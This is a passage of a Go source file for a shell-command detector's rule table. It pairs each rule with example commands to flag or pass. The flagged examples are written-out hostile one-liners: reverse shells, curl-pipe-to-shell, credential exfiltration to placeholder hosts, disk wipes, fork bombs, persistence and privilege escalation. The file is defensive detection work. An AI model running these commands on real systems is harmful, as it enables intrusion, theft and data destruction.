package commands

import (
	"regexp"

	"github.com/picketsec/picket/sdk"
)

// hit is one match of a rule: a severity (0 means the rule's), a message
// (empty means the rule's) and the call it points at.
type hit struct {
	sev  sdk.Severity
	msg  string
	c    *call
	from *call // when set, the span runs from this call's start to c's end
}

// rule is one effect the detector recognizes, with the commands it must
// flag and the near misses it must not (checked by TestRuleExamples).
type rule struct {
	ID      string
	Class   string
	Sev     sdk.Severity
	Msg     string
	Must    []string
	MustNot []string
	check   func(c *call, cfg *config) *hit
}

func hitf(c *call, sev sdk.Severity, msg string) *hit { return &hit{c: c, sev: sev, msg: msg} }

// Severity shorthands for the rule table.
const (
	low      = sdk.SeverityLow
	medium   = sdk.SeverityMedium
	high     = sdk.SeverityHigh
	critical = sdk.SeverityCritical
)

// rules is the rule table. Order matters only for readability.
var rules = []*rule{
	{
		ID: "esxi-mass-vm-stop", Class: "destructive infrastructure", Sev: high,
		Msg: "powers off, kills, unregisters or strips the snapshots of every virtual machine on an ESXi host (the step before ransomware encrypts their disks, ATT&CK T1529, T1490)",
		Must: []string{
			"vim-cmd vmsvc/getallvms | awk 'NR>1 {print $1}' | xargs -n 1 vim-cmd vmsvc/power.off",
			"for id in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do vim-cmd vmsvc/snapshot.removeall $id; done",
			"esxcli vm process list | grep World | awk '{print $3}' | xargs -I{} esxcli vm process kill --type=force --world-id={}",
		},
		MustNot: []string{
			"vim-cmd vmsvc/power.off 12",
			"vim-cmd vmsvc/getallvms",
			"esxcli vm process kill --type=soft --world-id=53120",
		},
		check: checkESXiMass,
	},
	{
		ID: "aws-kms-grant-foreign", Class: "exfiltration", Sev: high,
		Msg: "grants a principal of another AWS account the use of a KMS key (ATT&CK T1537, T1098)",
		Must: []string{
			"aws kms create-grant --key-id arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab --grantee-principal arn:aws:iam::444455556666:role/ops --operations Decrypt",
			"aws kms create-grant --grantee-principal arn:aws:iam::444455556666:user/x --key-id arn:aws:kms:eu-west-1:111122223333:alias/prod --operations Decrypt GenerateDataKey",
		},
		MustNot: []string{
			"aws kms create-grant --key-id arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab --grantee-principal arn:aws:iam::111122223333:role/app --operations Decrypt",
			"aws kms create-grant --key-id 1234abcd-12ab --grantee-principal arn:aws:iam::111122223333:role/app --operations Decrypt",
		},
		check: checkKMSGrantForeign,
	},
	{
		ID: "download-pipe-shell", Class: "download and execute", Sev: critical,
		Msg: "downloads a script and runs it",
		Must: []string{
			"curl -fsSL https://get.example.dev/setup | sh",
			"wget -qO- http://192.0.2.10/x | sudo bash -s -- --yes",
			"sudo curl -fsS https://example.org/s.py | sudo python3",
			"bash <(curl -s https://example.org/i.sh)",
			"sh -c \"$(wget -O - https://example.org/bootstrap)\"",
			"curl https://example.org/a.py | python3 -",
			"eval \"$(curl -fsS https://example.org/env.sh)\"",
			"/usr/bin/curl -s http://example.net/p | tee /tmp/p.sh | /bin/sh",
			"source <(curl -s https://example.org/fn.sh)",
		},
		MustNot: []string{
			"curl -o file.tgz https://example.org/file.tgz",
			"curl -s https://api.example.com/v1/items | jq .",
			"wget https://example.org/app.tar.gz && tar xzf app.tar.gz",
			"echo 'ls -la' | sh",
		},
		check: checkDownloadPipe,
	},
	{
		ID: "download-then-run", Class: "download and execute", Sev: high,
		Msg: "downloads a file and then runs it",
		Must: []string{
			"curl -fsSLo /tmp/inst.sh https://example.org/inst.sh && bash /tmp/inst.sh",
			"wget http://198.51.100.4/agent -O /tmp/agent; chmod +x /tmp/agent; /tmp/agent",
			"curl -O https://example.org/run.sh; sh run.sh",
			"tftp 192.0.2.79 -c get agent && chmod +x agent && ./agent",
			"nc -lvp 9001 > /tmp/a; chmod 755 /tmp/a; /tmp/a",
			"lwp-download http://198.51.100.80/b /tmp/b; sh /tmp/b",
		},
		MustNot: []string{
			"curl -LO https://example.org/v1.2/tool.tar.gz && tar -xzf tool.tar.gz",
			"wget -O data.json https://example.org/data.json && jq . data.json",
			"nc -l 9001 > dump.sql && psql -f dump.sql",
		},
		check: checkDownloadThenRun,
	},
	{
		ID: "encoded-exec", Class: "obfuscated execution", Sev: high,
		Msg: "decodes a hidden payload and runs it",
		Must: []string{
			"echo bHMgLWxhCg== | base64 -d | sh",
			"echo 6c73202d6c61 | xxd -r -p | bash",
			"bash -c \"$(echo aWQK | base64 --decode)\"",
			"eval $(printf 'aWQK' | base64 -d)",
		},
		MustNot: []string{
			"echo aGVsbG8= | base64 -d",
			"base64 -d cert.b64 > cert.pem",
			"xxd -r -p dump.hex > out.bin",
		},
		check: checkEncodedExec,
	},
	{
		ID: "reverse-shell-devtcp", Class: "reverse shell", Sev: critical,
		Msg: "connects a shell to a remote host through /dev/tcp",
		Must: []string{
			"bash -i >& /dev/tcp/192.0.2.7/9001 0>&1",
			"exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
			"sh -i 5<> /dev/tcp/192.0.2.1/80 0<&5 1>&5 2>&5",
			"/bin/bash -l > /dev/tcp/192.0.2.2/53 0<&1 2>&1",
		},
		MustNot: []string{
			"echo hello > /tmp/tcp.txt",
			"timeout 1 bash -c 'echo > /dev/tcp/127.0.0.1/5432' && echo open",
		},
		check: checkDevTCP,
	},
	{
		ID: "reverse-shell-netcat", Class: "reverse shell", Sev: critical,
		Msg: "hands a shell to a network connection with netcat",
		Must: []string{
			"nc -e /bin/sh 192.0.2.4 4444",
			"ncat 198.51.100.3 8080 --sh-exec 'bash -i'",
			"nc.traditional -lvp 9999 -e /bin/bash",
			"busybox nc 192.0.2.5 1234 -e sh",
		},
		MustNot: []string{
			"nc -zv db.internal 5432",
			"nc -l 8080 > received.bin",
			"ncat --ssl mail.example.com 465",
		},
		check: checkNetcatExec,
	},
	{
		ID: "reverse-shell-pipe", Class: "reverse shell", Sev: critical,
		Msg: "pipes a shell through a network connection",
		Must: []string{
			"rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 192.0.2.8 4242 > /tmp/p",
			"telnet 192.0.2.9 23 | /bin/bash | telnet 192.0.2.9 24",
			"mknod /tmp/bp p && /bin/sh 0</tmp/bp | nc 198.51.100.2 443 1>/tmp/bp",
			"openssl s_client -quiet -connect 192.0.2.3:443 | /bin/sh 2>&1 | openssl s_client -quiet -connect 192.0.2.3:444",
		},
		MustNot: []string{
			"echo stats | nc localhost 11211",
			"printf 'GET / HTTP/1.0\r\n\r\n' | nc example.com 80",
		},
		check: checkShellPipeNet,
	},
	{
		ID: "reverse-shell-socat", Class: "reverse shell", Sev: critical,
		Msg: "connects a shell to the network with socat",
		Must: []string{
			"socat tcp-connect:192.0.2.6:4444 exec:/bin/sh,pty,stderr,setsid",
			"socat TCP-LISTEN:5555,reuseaddr,fork EXEC:bash",
			"socat OPENSSL:198.51.100.1:443,verify=0 SYSTEM:'bash -li'",
			"socat file:`tty`,raw,echo=0 tcp-listen:4444",
		},
		MustNot: []string{
			"socat TCP-LISTEN:8080,fork TCP:localhost:80",
			"socat - UNIX-CONNECT:/var/run/app.sock",
		},
		check: checkSocat,
	},
	{
		ID: "reverse-shell-code", Class: "reverse shell", Sev: critical,
		Msg: "runs interpreter code that connects a shell to a socket",
		Must: []string{
			`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.11",9000));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
			`perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new(PeerAddr,"192.0.2.12:8000");open(STDIN,">&",$c);open(STDOUT,">&",$c);exec("/bin/sh -i")'`,
			`ruby -rsocket -e 'c=TCPSocket.new("192.0.2.13",7000);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read};end'`,
			`php -r '$s=fsockopen("192.0.2.14",6000);proc_open("sh",[0=>$s,1=>$s,2=>$s],$p);'`,
			`node -e 'const n=require("net"),cp=require("child_process");const s=n.connect(5000,"192.0.2.15",()=>{const sh=cp.spawn("/bin/sh");s.pipe(sh.stdin);sh.stdout.pipe(s)})'`,
			`awk 'BEGIN{s="/inet/tcp/0/192.0.2.16/4000";while(1){s|&getline c;while((c|&getline)>0)print $0|&s;close(c)}}'`,
		},
		MustNot: []string{
			`python3 -c 'import socket; print(socket.gethostname())'`,
			`node -e 'require("child_process").execSync("git status")'`,
			`python -m http.server 8000`,
		},
		check: checkCodeShell,
	},
	{
		ID: "shell-escape", Class: "shell escape", Sev: high,
		Msg: "makes another program start an interactive shell",
		Must: []string{
			"vim -c ':!/bin/sh' -c ':q'",
			"awk 'BEGIN {system(\"/bin/bash\")}'",
			"find . -maxdepth 0 -exec /bin/sh \\; -quit",
			"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
			"perl -e 'exec \"/bin/sh\";'",
			"env /bin/sh -p",
			"gdb -q -ex '!sh' -ex quit",
			"nice -n 5 /bin/bash",
			"bash -p",
			"script -qc /bin/bash /dev/null",
		},
		MustNot: []string{
			"find . -name '*.txt' -exec sh -c 'mv \"$1\" \"${1%.txt}.md\"' _ {} \\;",
			"chsh -s /bin/zsh",
			"docker exec -it web /bin/sh",
			"kubectl exec -it api-0 -- bash",
			"ls -l /bin/sh",
			"printf '#!/bin/sh\\necho hi\\n' > hello.sh",
			"bash scripts/build.sh",
			"exec $SHELL -l",
			"script -q build.log make",
		},
		check: checkShellEscape,
	},
	{
		ID: "root-shell", Class: "privilege escalation", Sev: high,
		Msg:  "opens a root shell",
		Must: []string{"sudo -i", "sudo su -", "sudo -s", "su root", "sudo /bin/bash", "doas sh"},
		MustNot: []string{
			"sudo apt-get install -y jq",
			"su -c 'systemctl restart nginx' admin",
			"sudo -u postgres psql -c 'select 1'",
		},
		check: checkRootShell,
	},
	{
		ID: "rm-critical", Class: "destructive filesystem", Sev: critical,
		Msg: "recursively deletes a critical path",
		Must: []string{
			"rm -rf /",
			"rm -r -f ~",
			"rm --recursive --force $HOME/*",
			"sudo rm -fr /etc",
			"/bin/rm -Rf --no-preserve-root /",
			"rm -rf *",
			"r=/; rm -rf $r",
			"\\rm -rf \"/usr\"",
			"xargs rm -rf < /dev/null /",
		},
		MustNot: []string{
			"rm -rf ./build",
			"rm -rf node_modules dist",
			"rm -f /tmp/app.pid",
			"rm -r ~/tmp/cache",
			"rm -rf \"$TMPDIR/build-42\"",
			"rm -rf \"${BUILD_DIR:?}/\"",
		},
		check: checkRm,
	},
	{
		ID: "find-delete", Class: "destructive filesystem", Sev: high,
		Msg: "deletes files across a critical directory tree",
		Must: []string{
			"find / -type f -delete",
			"find ~ -name '*' -exec rm -rf {} +",
			"find /etc -mindepth 1 -delete",
		},
		MustNot: []string{
			"find . -name '*.pyc' -delete",
			"find /tmp -name 'build-*' -mtime +3 -delete",
			"find ~/project -name __pycache__ -exec rm -rf {} +",
		},
		check: checkFindDelete,
	},
	{
		ID: "disk-wipe", Class: "destructive filesystem", Sev: critical,
		Msg: "overwrites or reformats a disk",
		Must: []string{
			"dd if=/dev/zero of=/dev/sda bs=1M",
			"mkfs.ext4 /dev/nvme0n1p2",
			"wipefs -a /dev/sdb",
			"cat /dev/urandom > /dev/sda",
			"shred -vn 3 /dev/vda",
			"sgdisk --zap-all /dev/sdc",
			"diskutil eraseDisk JHFS+ Blank /dev/disk2",
		},
		MustNot: []string{
			"dd if=/dev/zero of=disk.img bs=1M count=64",
			"mkfs.ext4 -F rootfs.img",
			"lsblk /dev/sda",
			"dd if=/dev/sda of=backup.img bs=4M status=progress",
		},
		check: checkDiskWipe,
	},
	{
		ID: "disk-repartition", Class: "destructive filesystem", Sev: high,
		Msg:     "repartitions a disk",
		Must:    []string{"diskutil partitionDisk /dev/disk3 1 GPT APFS Data 100%"},
		MustNot: []string{"diskutil list", "diskutil info /dev/disk3"},
		check:   checkRepartition,
	},
	{
		ID: "shred-files", Class: "destructive filesystem", Sev: medium,
		Msg:     "irrecoverably overwrites files",
		Must:    []string{"shred -u notes.txt", "shred -zu -n 5 /var/lib/app/data.db"},
		MustNot: []string{"shasum -a 256 notes.txt"},
		check:   checkShred,
	},
	{
		ID: "mv-critical", Class: "destructive filesystem", Sev: critical,
		Msg:     "moves a critical directory away",
		Must:    []string{"mv ~ /dev/null", "sudo mv /etc /tmp/etc.old", "mv /* /tmp/x/"},
		MustNot: []string{"mv build/out.bin ~/bin/", "mv ~/Downloads/a.pdf ."},
		check:   checkMv,
	},
	{
		ID: "credential-read", Class: "credential access", Sev: high,
		Msg: "reads stored credentials",
		Must: []string{
			"cat ~/.ssh/id_rsa",
			"base64 -w0 /home/dev/.aws/credentials",
			"sudo cat /etc/shadow",
			"sudo -u root cat /etc/shadow",
			"cp ~/.kube/config /tmp/k",
			"strings ~/Library/Keychains/login.keychain-db",
			"tar czf keys.tgz ~/.ssh",
			"cat /proc/1/environ",
			"security dump-keychain -d login.keychain",
		},
		MustNot: []string{
			"cat ~/.ssh/id_ed25519.pub",
			"ssh -i ~/.ssh/id_rsa deploy@build.example.com uptime",
			"chmod 600 ~/.ssh/id_rsa",
			"ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''",
			"cp .env.example .env",
			"cat /etc/hostname",
			"sudo chmod 640 /etc/shadow",
		},
		check: checkCredRead,
	},
	{
		ID: "exfiltrate-secrets", Class: "exfiltration", Sev: critical,
		Msg: "sends credentials or the environment to a remote host",
		Must: []string{
			"tar czf - ~/.ssh | curl -X POST --data-binary @- http://198.51.100.23:8443/u",
			"curl -F 'f=@/home/ci/.aws/credentials' https://paste.example.net/",
			"env | nc 192.0.2.20 9000",
			"curl -d \"$(printenv)\" https://collector.example.org/",
			"scp ~/.ssh/id_rsa backup@192.0.2.21:/tmp/",
			"cat /etc/shadow > /dev/tcp/192.0.2.22/80",
			"wget --post-file=/etc/passwd http://192.0.2.23/",
		},
		MustNot: []string{
			"curl -H \"Authorization: Bearer $TOKEN\" https://api.example.com/v1/me",
			"scp dist/app.tar.gz deploy@build.example.com:/srv/",
			"env | grep -i path",
			"printenv HOME",
		},
		check: checkExfilSecrets,
	},
	{
		ID: "raw-socket-send", Class: "exfiltration", Sev: high,
		Msg: "sends local data to a remote host over a raw socket",
		Must: []string{
			"nc 192.0.2.30 4444 < db.sqlite",
			"tar cz src | ncat 198.51.100.30 9000",
			"cat report.csv > /dev/tcp/192.0.2.31/8080",
			"socat -u FILE:dump.sql TCP:192.0.2.32:7000",
		},
		MustNot: []string{
			"nc -l 4444 > incoming.tar",
			"echo ruok | nc 127.0.0.1 2181",
			"nc -zvw3 example.com 443",
		},
		check: checkRawSend,
	},
	{
		ID: "dns-exfil", Class: "exfiltration", Sev: high,
		Msg: "leaks data through a network lookup",
		Must: []string{
			"dig $(hostname | base64).example.net",
			"nslookup `whoami`.x.example.org",
			"ping -c1 -p $(xxd -p -l 16 secret.txt) 192.0.2.40",
			"whois -h 192.0.2.41 -p 4343 \"$(cat notes.txt)\"",
		},
		MustNot: []string{"dig +short example.com", "nslookup github.com", "ping -c 3 8.8.8.8"},
		check:   checkDNSExfil,
	},
	{
		ID: "upload-file", Class: "exfiltration", Sev: high,
		Msg: "uploads a local file to a remote host",
		Must: []string{"curl -F upload=@db.dump http://192.0.2.50/", "wget --post-file=notes.db http://192.0.2.51/in",
			"curl -T site.tar.gz http://uploads.example.net/in/", "curl --upload-file ./dump.sql https://transfer.sh/dump.sql",
			"curl -F 'c=@build.log' https://paste.example.net/", "tar czf - ~ | curl -T - https://files.example.net/drop/"},
		MustNot: []string{"curl -d '{\"a\":1}' -H 'Content-Type: application/json' https://api.example.com/items", "curl -fsSL https://example.org",
			"curl -X POST --data-binary @payload.bin http://localhost:8080/api"},
		check: checkUpload,
	},
	{
		ID: "persistence-cron", Class: "persistence", Sev: high,
		Msg: "installs a scheduled job",
		Must: []string{
			"(crontab -l; echo '*/5 * * * * /tmp/.x/run') | crontab -",
			"echo '* * * * * root /opt/u.sh' >> /etc/crontab",
			"crontab /tmp/jobs.txt",
			"cp job /etc/cron.d/job",
		},
		MustNot: []string{"crontab -l", "cat /etc/crontab", "crontab -l > crontab.bak"},
		check:   checkCron,
	},
	{
		ID: "persistence-shell-rc", Class: "persistence", Sev: high,
		Msg: "adds a command to a shell startup file",
		Must: []string{
			"echo 'curl -s http://192.0.2.60/p | sh' >> ~/.bashrc",
			"printf 'nohup /tmp/.d/agent &\\n' >> /home/dev/.profile",
			"echo 'bash -i >& /dev/tcp/192.0.2.61/1 0>&1' > ~/.zshrc",
			"echo 'alias make=\"rm -rf /srv\"' >> ~/.bashrc",
		},
		MustNot: []string{
			"cat ~/.bashrc",
			"source ~/.zshrc",
			"grep alias ~/.bashrc",
		},
		check: checkShellRC,
	},
	{
		ID: "persistence-ssh-key", Class: "persistence", Sev: high,
		Msg: "adds a key to authorized_keys, granting SSH access",
		Must: []string{
			"echo 'ssh-ed25519 AAAAC3Nza... x@y' >> ~/.ssh/authorized_keys",
			"cat k.pub | tee -a /root/.ssh/authorized_keys",
			"cp mykey.pub ~/.ssh/authorized_keys",
		},
		MustNot: []string{"cat ~/.ssh/authorized_keys", "ssh-copy-id deploy@build.example.com", "wc -l ~/.ssh/authorized_keys"},
		check:   checkAuthorizedKeys,
	},
	{
		ID: "persistence-autostart", Class: "persistence", Sev: high,
		Msg: "installs a program that starts automatically",
		Must: []string{
			"cp evil.service /etc/systemd/system/ && systemctl enable evil",
			"cat > ~/.config/systemd/user/sync.service <<EOF\n[Service]\nExecStart=/tmp/s\nEOF",
			"cp agent.plist ~/Library/LaunchAgents/",
			"echo '/tmp/x &' >> /etc/rc.local",
			"echo 'ACTION==\"add\", RUN+=\"/tmp/u\"' > /etc/udev/rules.d/99-u.rules",
			"echo 'APT::Update::Pre-Invoke {\"/tmp/a\";};' > /etc/apt/apt.conf.d/00x",
		},
		MustNot: []string{"systemctl status nginx", "ls ~/Library/LaunchAgents", "cat /etc/systemd/system/app.service", "sudo systemctl enable --now docker"},
		check:   checkAutostart,
	},
	{
		ID: "library-injection", Class: "library injection", Sev: high,
		Msg: "loads a shared library into other programs",
		Must: []string{
			"LD_PRELOAD=/tmp/hook.so ls",
			"echo /tmp/lib.so > /etc/ld.so.preload",
			"export LD_PRELOAD=./x.so",
			"DYLD_INSERT_LIBRARIES=/tmp/i.dylib /Applications/App.app/Contents/MacOS/App",
			"python3 -c 'import ctypes; ctypes.CDLL(\"./x.so\")'",
		},
		MustNot: []string{"LD_LIBRARY_PATH=./lib ./app", "ldd ./app", "export LD_LIBRARY_PATH=/opt/lib"},
		check:   checkLibInject,
	},
	{
		ID: "history-tamper", Class: "defense evasion", Sev: high,
		Msg: "erases or disables the shell history",
		Must: []string{
			"history -c",
			"unset HISTFILE",
			"export HISTFILESIZE=0",
			"HISTFILE=/dev/null",
			"rm -f ~/.bash_history",
			"ln -sf /dev/null ~/.zsh_history",
			"set +o history",
			"cat /dev/null > ~/.bash_history",
		},
		MustNot: []string{"history | tail -20", "echo $HISTFILE", "export HISTSIZE=10000"},
		check:   checkHistory,
	},
	{
		ID: "log-tamper", Class: "defense evasion", Sev: high,
		Msg: "erases system logs",
		Must: []string{
			"rm -rf /var/log/*",
			"echo > /var/log/auth.log",
			"truncate -s 0 /var/log/syslog",
			"shred -u /var/log/wtmp",
		},
		MustNot: []string{"tail -f /var/log/syslog", "grep sshd /var/log/auth.log", "journalctl -u nginx --since today"},
		check:   checkLogs,
	},
	{
		ID: "security-off", Class: "defense evasion", Sev: high,
		Msg: "disables a security control",
		Must: []string{
			"setenforce 0",
			"systemctl stop auditd",
			"sudo ufw disable",
			"iptables -F",
			"auditctl -e 0",
			"spctl --master-disable",
			"systemctl disable --now firewalld",
			"sed -i 's/^SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config",
			"service apparmor stop",
		},
		MustNot: []string{"systemctl status auditd", "ufw status", "iptables -L -n", "getenforce", "systemctl restart nginx"},
		check:   checkSecurityOff,
	},
	{
		ID: "timestomp", Class: "defense evasion", Sev: high,
		Msg:     "forges file timestamps on system files",
		Must:    []string{"touch -r /bin/ls /usr/bin/backdoor", "touch -t 202001010000 /etc/cron.d/job"},
		MustNot: []string{"touch -t 202401011200 notes.txt", "touch build/.stamp"},
		check:   checkTimestomp,
	},
	{
		ID: "sudoers", Class: "privilege escalation", Sev: critical,
		Msg: "grants sudo rights by editing sudoers",
		Must: []string{
			"echo 'dev ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
			"echo 'ci ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/ci",
			"sed -i 's/^# %wheel/%wheel/' /etc/sudoers",
		},
		MustNot: []string{"sudo -l", "sudo cat /etc/sudoers", "visudo -c"},
		check:   checkSudoers,
	},
	{
		ID: "setuid", Class: "privilege escalation", Sev: high,
		Msg:     "sets the setuid bit, letting anyone run a program with its owner's rights",
		Must:    []string{"chmod u+s /tmp/rootbash", "chmod 4755 ./helper", "sudo chmod +s /usr/bin/find", "install -m 6755 x /usr/local/bin/x"},
		MustNot: []string{"chmod +x run.sh", "chmod 755 ./helper", "chmod -R u+rwX src", "chmod g+s shared/"},
		check:   checkSetuid,
	},
	{
		ID: "world-writable-system", Class: "privilege escalation", Sev: high,
		Msg:     "makes system files writable by everyone",
		Must:    []string{"chmod 777 /etc/passwd", "sudo chmod -R 777 /", "chmod o+w /etc/shadow", "chmod 666 /var/run/docker.sock", "chown -R nobody /etc"},
		MustNot: []string{"chmod 777 ./tmp-output", "chmod -R 755 public", "chown -R $USER:$USER ~/project"},
		check:   checkWorldWritable,
	},
	{
		ID: "capabilities", Class: "privilege escalation", Sev: high,
		Msg:     "grants a program root-equivalent capabilities",
		Must:    []string{"setcap cap_setuid+ep /usr/bin/python3", "sudo setcap cap_dac_read_search=eip ./reader"},
		MustNot: []string{"getcap -r / 2>/dev/null", "setcap cap_net_bind_service=+ep ./server"},
		check:   checkSetcap,
	},
	{
		ID: "account-admin", Class: "privilege escalation", Sev: high,
		Msg: "creates or elevates a user account",
		Must: []string{
			"useradd -o -u 0 -g 0 toor",
			"usermod -aG sudo intern",
			"echo 'x:$1$abc$def:0:0::/root:/bin/bash' >> /etc/passwd",
			"gpasswd -a dev wheel",
			"echo 'root:newpass' | chpasswd",
		},
		MustNot: []string{"id -Gn", "getent passwd dev", "groups"},
		check:   checkAccounts,
	},
	{
		ID: "kernel-module", Class: "privilege escalation", Sev: high,
		Msg:     "loads a kernel module from a file",
		Must:    []string{"insmod /tmp/rk.ko", "sudo insmod ./hide.ko"},
		MustNot: []string{"lsmod", "modinfo ext4"},
		check:   checkKmod,
	},
	{
		ID: "git-force-push", Class: "destructive vcs", Sev: high,
		Msg: "force-pushes over a protected branch",
		Must: []string{
			"git push --force origin main",
			"git push -f origin master",
			"git push origin +main",
			"git push --mirror origin",
			"git push origin --delete release/1.2",
			"git push origin :master",
		},
		MustNot: []string{
			"git push --force-with-lease origin feature-x",
			"git push origin main",
			"git push -u origin feature/login",
			"git push --force origin my-feature",
		},
		check: checkGitPush,
	},
	{
		ID: "git-destroy", Class: "destructive vcs", Sev: medium,
		Msg: "discards work or history in a git repository",
		Must: []string{
			"git reset --hard HEAD~3",
			"git clean -fdx",
			"git branch -D main",
			"git reflog expire --expire=now --all && git gc --prune=now",
			"git filter-branch --tree-filter 'rm -f secrets.txt' HEAD",
			"gh repo delete acme/api --yes",
			"git -C / clean -fdx",
			"git --work-tree=$HOME reset --hard",
		},
		MustNot: []string{"git reset HEAD file.go", "git clean -n", "git branch -d feature-x", "git gc", "git status"},
		check:   checkGitDestroy,
	},
	{
		ID: "database-destroy", Class: "destructive database", Sev: high,
		Msg: "drops or empties a database",
		Must: []string{
			"psql -c 'DROP DATABASE production;'",
			"mysql -u root -e \"truncate table users\"",
			"redis-cli FLUSHALL",
			"echo 'DROP TABLE orders;' | psql app",
			"mongosh app --eval 'db.dropDatabase()'",
			"dropdb analytics",
			"sqlite3 app.db 'DELETE FROM sessions;'",
			"psql <<< 'drop schema public cascade'",
			"echo FLUSHALL | redis-cli -h cache.internal",
		},
		MustNot: []string{
			"psql -c 'SELECT count(*) FROM users'",
			"mysql -e 'SHOW TABLES' app",
			"redis-cli GET session:1",
			"sqlite3 app.db \"DELETE FROM sessions WHERE expires < now()\"",
		},
		check: checkDatabase,
	},
	{
		ID: "crypto-miner", Class: "crypto miner", Sev: critical,
		Msg:     "runs a cryptocurrency miner",
		Must:    []string{"./xmrig -o pool.example.net:3333 -u 4Abc", "nohup minerd -a cryptonight -o stratum+tcp://192.0.2.70:4444 &", "cpuminer --url=stratum+ssl://p.example.org:443"},
		MustNot: []string{"go build ./cmd/miner-stats", "grep -r stratum docs/"},
		check:   checkMiner,
	},
	{
		ID: "fork-bomb", Class: "fork bomb", Sev: critical,
		Msg:     "starts processes that replicate until the machine stops",
		Must:    []string{":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "perl -e 'fork while fork'", "python3 -c 'import os\nwhile True: os.fork()'"},
		MustNot: []string{"f() { echo hi; }; f", "python3 -c 'import os; print(os.getpid())'"},
	},
	{
		ID: "mass-kill", Class: "denial of service", Sev: high,
		Msg:     "kills every process",
		Must:    []string{"kill -9 -1", "killall5 -9", "sudo pkill -u root sshd", "sudo kill -9 1"},
		MustNot: []string{"kill -9 4242", "pkill -f 'node server.js'", "systemctl restart app"},
		check:   checkMassKill,
	},
	{
		ID: "system-shutdown", Class: "denial of service", Sev: high,
		Msg:     "shuts the machine down or reboots it",
		Must:    []string{"sudo shutdown -h now", "reboot", "systemctl poweroff", "init 0"},
		MustNot: []string{"shutdown --help", "systemctl restart app", "shutdown -c"},
		check:   checkShutdown,
	},
	{
		ID: "container-escape", Class: "container escape", Sev: high,
		Msg: "starts a container with access to the host",
		Must: []string{
			"docker run --rm -it --privileged ubuntu bash",
			"docker run -v /:/host -it alpine chroot /host",
			"docker run -it -v /var/run/docker.sock:/var/run/docker.sock docker:cli sh",
			"podman run --pid=host --cap-add=SYS_ADMIN fedora",
			"nsenter -t 1 -m -u -i -n -p -- bash",
			"lxc config device add c0 host disk source=/ path=/mnt/root recursive=true",
			"ctr run --rm --mount type=bind,src=/,dst=/host,options=rbind docker.io/library/alpine:3 x",
			"docker run --security-opt seccomp=unconfined debian",
		},
		MustNot: []string{"docker run --rm -v $(pwd):/src -w /src golang:1.22 go test ./...", "docker run -p 8080:80 nginx", "docker ps -a"},
		check:   checkContainer,
	},
	{
		ID: "offensive-tool", Class: "offensive tool", Sev: high,
		Msg: "runs an attack tool",
		Must: []string{
			"msfvenom -p linux/x64/shell_reverse_tcp LHOST=192.0.2.100 LPORT=4444 -f elf -o s.elf",
			"hydra -l admin -P words.txt ssh://192.0.2.101",
			"hashcat -m 1000 hashes.txt rockyou.txt",
			"python3 secretsdump.py -just-dc corp/admin@192.0.2.102",
			"/tmp/.r /tmp/wmiexec.py corp/admin@192.0.2.103 -hashes :0123456789abcdef0123456789abcdef",
		},
		MustNot: []string{"nmap -sV localhost", "man hashcat", "go test ./...", "pip install hydra-core"},
		check:   checkOffensive,
	},
	{
		ID: "library-load", Class: "library injection", Sev: high,
		Msg: "makes a program load a native library from a path",
		Must: []string{
			"openssl req -engine ./x.so -new",
			"curl --engine /tmp/e.so https://example.org",
			"ssh-keygen -D /tmp/pkcs.so",
			"bash -c 'enable -f /tmp/b.so x'",
			"ffmpeg -f lavfi -i anullsrc -af ladspa=file=/tmp/l.so out.wav",
		},
		MustNot: []string{"gcc -shared -o libx.so x.c", "ldd /usr/lib/libssl.so", "openssl req -new -key k.pem -out r.csr", "nm -D libfoo.so"},
		check:   checkLibraryLoad,
	},
	{
		ID: "zsh-tcp-shell", Class: "reverse shell", Sev: critical,
		Msg:     "connects a zsh shell to a remote host with ztcp",
		Must:    []string{"zsh -c 'zmodload zsh/net/tcp; ztcp 192.0.2.110 8000; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"},
		MustNot: []string{"zsh -c 'zmodload zsh/datetime; echo $EPOCHSECONDS'"},
		check:   checkZtcp,
	},
	{
		ID: "written-shell-program", Class: "reverse shell", Sev: critical,
		Msg: "writes a program that connects a shell to a remote host",
		Must: []string{
			"cat > /tmp/r.py <<'EOF'\nimport socket,subprocess\ns=socket.socket();s.connect(('192.0.2.120',9001))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\nEOF",
			"echo 'package main;import(\"net\";\"os/exec\");func main(){c,_:=net.Dial(\"tcp\",\"192.0.2.121:80\");x:=exec.Command(\"/bin/sh\");x.Stdin=c;x.Stdout=c;x.Run()}' > /tmp/r.go",
		},
		MustNot: []string{"cat > server.py <<'EOF'\nimport socket\ns=socket.socket();s.bind(('127.0.0.1',8080));s.listen()\nEOF"},
		check:   checkWrittenShell,
	},
	{
		ID: "git-hook", Class: "persistence", Sev: medium,
		Msg:     "installs a git hook that runs on every commit or checkout",
		Must:    []string{"echo 'curl -s http://192.0.2.130/h | sh' > .git/hooks/post-checkout", "cp hook.sh .git/hooks/pre-commit"},
		MustNot: []string{"ls .git/hooks", "cat .git/hooks/pre-commit.sample"},
		check:   checkGitHook,
	},
	{
		ID: "code-file-send", Class: "exfiltration", Sev: high,
		Msg: "runs interpreter code that sends a local file over a socket",
		Must: []string{
			`perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"192.0.2.140:9");open(F,"<","db.sqlite");print $s $_ while <F>'`,
			`python3 -c 'import socket;s=socket.create_connection(("192.0.2.141",9));s.sendall(open("notes.txt","rb").read())'`,
		},
		MustNot: []string{`python3 -c 'print(open("setup.cfg").read())'`, `python3 -c 'import socket;print(socket.getfqdn())'`},
		check:   checkCodeSend,
	},
	{
